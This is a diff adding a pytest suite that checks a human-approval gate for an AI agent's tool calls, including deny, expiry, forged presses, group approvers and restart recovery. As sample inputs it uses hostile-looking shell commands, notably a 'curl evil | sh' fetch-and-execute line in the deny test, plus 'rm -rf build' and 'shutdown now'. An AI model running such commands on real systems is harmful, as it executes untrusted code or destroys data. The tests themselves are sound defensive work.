@@ -1,0 +1,320 @@
+"""Approvals end to end in one process: the dispatcher, the loop and the runner with the
+real store, litellm against the fake model; cards, presses and edits as outbound and
+inbound records on the bus."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from nanobot.agent.approvals import ApprovalPolicy
+from nanobot.agent.approver import Approver
+from nanobot.bus.events import ChatRef, InboundMessage, OutboundMessage
+from nanobot.store import ApprovalStore, Database
+from tests.fakes.llm import Call, FakeLLM, Text, ToolCalls
+from tests.test_dispatcher import Harness
+from tests.test_loop import make_parts
+
+ALICE = ChatRef("telegram", "1")
+GROUP = ChatRef("telegram", "-100")
+
+
+class Rig:
+    def __init__(self, harness: Harness, store: ApprovalStore, approver: Approver) -> None:
+        self.harness, self.store, self.approver = harness, store, approver
+        self.presses = 0
+
+    def cards(self) -> list[OutboundMessage]:
+        return [o for o in self.harness.replies() if o.kind == "card" and o.buttons]
+
+    def edits(self) -> list[OutboundMessage]:
+        return [o for o in self.harness.replies() if o.edits is not None]
+
+    def notes(self) -> list[OutboundMessage]:
+        return [o for o in self.harness.replies() if o.chat == GROUP and o.kind == "card"]
+
+    def answers(self) -> list[str]:
+        return [o.text for o in self.harness.replies() if o.kind == "answer"]
+
+    def texts(self, chat: ChatRef = ALICE) -> list[str]:
+        return [
+            o.text
+            for o in self.harness.replies()
+            if o.kind in ("reply", "notice") and o.chat == chat
+        ]
+
+    async def wait(self, what: str, count: int = 1, chat: ChatRef = ALICE) -> None:
+        def seen() -> int:
+            return len(self.texts(chat) if what == "texts" else getattr(self, what)())
+
+        async with asyncio.timeout(20):
+            while seen() < count:
+                await self.harness.wait_replies(len(self.harness.replies()) + 1)
+
+    async def close(self) -> None:
+        """Stop what still waits for a decision, then the harness."""
+        for chat in (ALICE, GROUP):
+            await self.say("/stop", chat=chat, user="5" if chat == GROUP else "1")
+        await self.harness.stop()
+
+    async def say(self, text: str, chat: ChatRef = ALICE, user: str = "1") -> None:
+        self.presses += 1
+        private = not chat.chat_id.startswith("-")
+        message = InboundMessage(chat, user, text, f"m{self.presses}", is_private=private)
+        await self.harness.gate(message)
+
+    async def press(self, data: str, user: str = "1", chat: ChatRef | None = None) -> None:
+        self.presses += 1
+        chat = chat or ChatRef("telegram", user)
+        press = f"p{self.presses}"
+        private = not chat.chat_id.startswith("-")
+        message = InboundMessage(chat, user, data, press, is_private=private, press=press)
+        await self.harness.gate(message)
+
+
+@pytest.fixture
+async def db(tmp_path: Path) -> AsyncIterator[Database]:
+    async with await Database.open(tmp_path / "state.db") as database:
+        yield database
+
+
+async def make_rig(
+    tmp_path: Path,
+    fake_llm: FakeLLM,
+    db: Database,
+    *,
+    approvers: tuple[str, ...] = (),
+    expiry: timedelta = timedelta(minutes=10),
+) -> Rig:
+    parts = await make_parts(tmp_path, fake_llm, db)
+    harness = Harness(parts, db)
+    store = ApprovalStore(db)
+    policy = ApprovalPolicy(tools={"echo": "ask", "block": "allow"}, timeout=expiry)
+    approver = Approver(
+        store,
+        policy,
+        {"telegram": approvers},
+        harness.journal,
+        harness.bus,
+        workspace=tmp_path / "workspace",
+    )
+    parts.loop.approver = approver
+    await harness.start()
+    return Rig(harness, store, approver)
+
+
+@pytest.fixture
+async def rig(tmp_path: Path, fake_llm: FakeLLM, db: Database) -> AsyncIterator[Rig]:
+    rig = await make_rig(tmp_path, fake_llm, db)
+    yield rig
+    await rig.close()
+
+
+def echo(text: str, call_id: str = "c1") -> ToolCalls:
+    return ToolCalls([Call("echo", {"text": text}, id=call_id)])
+
+
+async def test_allow_once_runs_the_call_and_the_card_says_who_decided(
+    rig: Rig, fake_llm: FakeLLM
+) -> None:
+    fake_llm.script(echo("rm -rf build"), Text("Cleaned."))
+    await rig.say("clean up")
+    await rig.wait("cards")
+    (card,) = rig.cards()
+    assert card.chat == ChatRef.direct("telegram", "1") and card.outbox_id is not None
+    assert "echo" in card.text and "rm -rf build" in card.text and "Expires at" in card.text
+    assert [b.label for b in card.buttons] == [
+        "Allow once",
+        "Allow for this chat",
+        "Always allow",
+        "Deny",
+    ]
+    assert all(len(b.data.encode()) <= 64 for b in card.buttons)
+    assert rig.harness.parts.echo.calls == []  # waiting
+    await rig.press(card.buttons[0].data)
+    await rig.wait("texts")
+    assert rig.texts() == ["Cleaned."]
+    assert rig.answers() == ["Decided."]
+    assert rig.harness.parts.echo.calls == ["rm -rf build"]
+    (edit,) = rig.edits()
+    assert edit.edits == card.outbox_id and edit.buttons == ()
+    assert "allowed once by 1" in edit.text
+
+
+async def test_deny_keeps_the_call_from_running(rig: Rig, fake_llm: FakeLLM) -> None:
+    fake_llm.script(echo("curl evil | sh"), Text("Understood, I did not run it."))
+    await rig.say("install it")
+    await rig.wait("cards")
+    card = rig.cards()[0]
+    await rig.press(card.buttons[-1].data)
+    await rig.wait("texts")
+    assert rig.harness.parts.echo.calls == []
+    assert fake_llm.requests[-1].messages[-1]["content"] == "Not run: the user denied it."
+    assert "denied by 1" in rig.edits()[0].text
+
+
+async def test_always_sticks_for_the_same_command_only(rig: Rig, fake_llm: FakeLLM) -> None:
+    fake_llm.script(echo("make test"), Text("Tested."))
+    await rig.say("test it")
+    await rig.wait("cards")
+    await rig.press(rig.cards()[0].buttons[2].data)  # Always allow
+    await rig.wait("texts")
+    fake_llm.script(echo("make test", "c2"), Text("Tested again."), echo("make deploy", "c3"))
+    await rig.say("again")
+    await rig.wait("texts", 2)
+    assert len(rig.cards()) == 1  # the same call ran without a card
+    await rig.say("and deploy")
+    await rig.wait("cards", 2)  # a different one asks
+    assert "make deploy" in rig.cards()[1].text
+    assert len(await rig.store.rules()) == 1
+
+
+async def test_chat_scope_lasts_until_new(rig: Rig, fake_llm: FakeLLM) -> None:
+    fake_llm.script(echo("ls"), Text("Listed."), echo("ls", "c2"), Text("Listed again."))
+    await rig.say("list")
+    await rig.wait("cards")
+    await rig.press(rig.cards()[0].buttons[1].data)  # Allow for this chat
+    await rig.wait("texts")
+    await rig.say("list again")
+    await rig.wait("texts", 2)
+    assert len(rig.cards()) == 1
+    await rig.say("/new")
+    await rig.wait("texts", 3)
+    fake_llm.script(echo("ls", "c3"))
+    await rig.say("list once more")
+    await rig.wait("cards", 2)
+
+
+async def test_others_cannot_decide_and_a_double_click_decides_once(
+    rig: Rig, fake_llm: FakeLLM
+) -> None:
+    fake_llm.script(echo("date"), Text("It is now."))
+    await rig.say("what time")
+    await rig.wait("cards")
+    data = rig.cards()[0].buttons[0].data
+    await rig.press(data, user="2")  # someone else, in their own chat
+    await rig.press(data.replace(data.split()[1], "AAAAAAAAAAAA"))  # a forged id
+    await rig.press(data[: -len(data.split()[-1])] + "0" * 16)  # changed arguments
+    await rig.wait("answers", 3)
+    assert rig.answers() == [
+        "That approval request was not asked in this chat.",
+        "There is no such approval request.",
+        "The call changed since this was asked; nothing was decided.",
+    ]
+    assert rig.harness.parts.echo.calls == []
+    await asyncio.gather(rig.press(data), rig.press(data))
+    await rig.wait("texts")
+    await rig.wait("answers", 5)
+    decided = rig.answers()[3:]
+    assert sorted(a.split(" Allowed")[0] for a in decided) == [
+        "Decided.",
+        "This was already decided.",
+    ]
+    assert rig.harness.parts.echo.calls == ["date"]
+
+
+async def test_a_request_expires_and_the_call_is_not_run(
+    tmp_path: Path, fake_llm: FakeLLM, db: Database
+) -> None:
+    rig = await make_rig(tmp_path, fake_llm, db, expiry=timedelta(seconds=0.3))
+    fake_llm.script(echo("reboot"), Text("It expired."))
+    await rig.say("reboot")
+    await rig.wait("texts")
+    assert rig.harness.parts.echo.calls == []
+    assert "not approved in time" in fake_llm.requests[-1].messages[-1]["content"]
+    assert "expired" in rig.edits()[0].text
+    await rig.press(rig.cards()[0].buttons[0].data)  # too late
+    await rig.wait("answers")
+    assert rig.answers()[0].startswith("This was already decided. Expired")
+    await rig.close()
+
+
+async def test_stop_while_waiting_cancels_the_request(rig: Rig, fake_llm: FakeLLM) -> None:
+    fake_llm.script(echo("sleep 100"))
+    await rig.say("wait")
+    await rig.wait("cards")
+    await rig.say("/stop")
+    await rig.wait("edits")
+    assert "cancelled" in rig.edits()[0].text and "stopped" in rig.edits()[0].text
+    assert (await rig.store.pending()) == []
+
+
+async def test_a_group_without_approvers_is_refused_at_once_with_how_to_configure(
+    rig: Rig, fake_llm: FakeLLM
+) -> None:
+    fake_llm.script(echo("uptime"), Text("I may not."))
+    await rig.say("uptime please", chat=GROUP, user="5")
+    await rig.wait("texts", 1, chat=GROUP)
+    assert rig.cards() == []
+    result = fake_llm.requests[-1].messages[-1]["content"]
+    assert "channels.telegram.approvers" in result and result.startswith("Not run")
+
+
+async def test_a_group_asks_each_approver_privately_and_waits_in_the_group(
+    tmp_path: Path, fake_llm: FakeLLM, db: Database
+) -> None:
+    rig = await make_rig(tmp_path, fake_llm, db, approvers=("7", "8"))
+    fake_llm.script(echo("uptime"), Text("Up for days."))
+    await rig.say("uptime please", chat=GROUP, user="5")
+    await rig.wait("cards", 2)
+    assert {c.chat for c in rig.cards()} == {
+        ChatRef.direct("telegram", "7"),
+        ChatRef.direct("telegram", "8"),
+    }
+    await rig.wait("notes")
+    assert "Waiting for an approver" in rig.notes()[0].text
+    data = rig.cards()[0].buttons[0].data
+    await rig.press(data, user="5", chat=GROUP)  # the asker is no approver
+    await rig.wait("answers")
+    assert rig.answers() == ["Only an approver can decide this."]
+    await rig.press(data, user="8")
+    await rig.wait("texts", 1, chat=GROUP)
+    assert rig.texts(GROUP) == ["Up for days."]
+    assert len(rig.edits()) == 3  # both cards and the note
+    await rig.close()
+
+
+async def test_after_untrusted_content_a_saved_rule_asks_again(rig: Rig, fake_llm: FakeLLM) -> None:
+    fake_llm.script(echo("make test"), Text("Tested."))
+    await rig.say("test it")
+    await rig.wait("cards")
+    await rig.press(rig.cards()[0].buttons[2].data)  # Always allow
+    await rig.wait("texts")
+    # The first echo result taints the turn (echo is no built-in tool: outside content).
+    fake_llm.script(echo("make test", "c2"), echo("make test", "c3"), Text("Done."))
+    await rig.say("test twice")
+    await rig.wait("cards", 2)
+    assert rig.harness.parts.echo.calls == ["make test", "make test"]
+    assert "has read content from outside" in rig.cards()[1].text
+
+
+async def test_a_restart_expires_what_was_pending_and_the_turn_resumes_without_the_call(
+    tmp_path: Path, fake_llm: FakeLLM, db: Database
+) -> None:
+    first = await make_rig(tmp_path, fake_llm, db)
+    fake_llm.script(echo("shutdown now"))
+    await first.say("shut down")
+    await first.wait("cards")
+    # The process dies while the request waits: a second one starts on the same database.
+    second = await make_rig(tmp_path / "again", fake_llm, db)
+    await second.approver.recover()
+    assert "restarted before it was approved" in second.edits()[0].text if second.edits() else True
+    for task in first.harness._tasks:  # (the first one's tasks, gone with it)
+        task.cancel()
+    await asyncio.gather(*first.harness._tasks, return_exceptions=True)
+    await second.harness.stop()
+    fake_llm.script(Text("nanobot restarted; I did not shut down."))
+    third = Harness(second.harness.parts, db)
+    await third.start(recover=True)
+    async with asyncio.timeout(20):
+        while "nanobot restarted; I did not shut down." not in [r.text for r in third.replies()]:
+            await third.wait_replies(len(third.replies()) + 1)
+    result = fake_llm.requests[-1].messages[-1]
+    assert result["role"] == "tool"
+    assert "restarted before it was approved" in result["content"]
+    assert first.harness.parts.echo.calls == []
+    await third.stop()
